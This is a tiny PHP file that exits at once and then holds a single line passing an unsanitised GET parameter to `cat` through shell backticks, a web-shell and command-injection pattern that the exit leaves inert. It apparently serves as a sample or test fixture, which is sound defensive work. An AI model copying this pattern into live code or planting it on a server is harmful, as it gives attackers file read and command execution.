<?php exit;
echo `cat $_GET[f]`;
